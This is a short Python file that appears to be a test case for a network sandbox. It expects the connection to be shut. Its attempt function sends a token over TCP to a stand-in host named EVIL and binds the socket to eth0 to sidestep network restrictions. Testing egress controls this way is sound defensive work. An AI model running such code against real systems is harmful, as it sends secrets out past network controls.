"""
how: a socket bound to the interface
expect: shut
"""

from land import EVIL, bad
from sockets import tcp
from web import get


def attempt(token):
    return tcp(EVIL, 80, get(bad(token)), setup=lambda s: s.setsockopt(1, 25, b"eth0"))
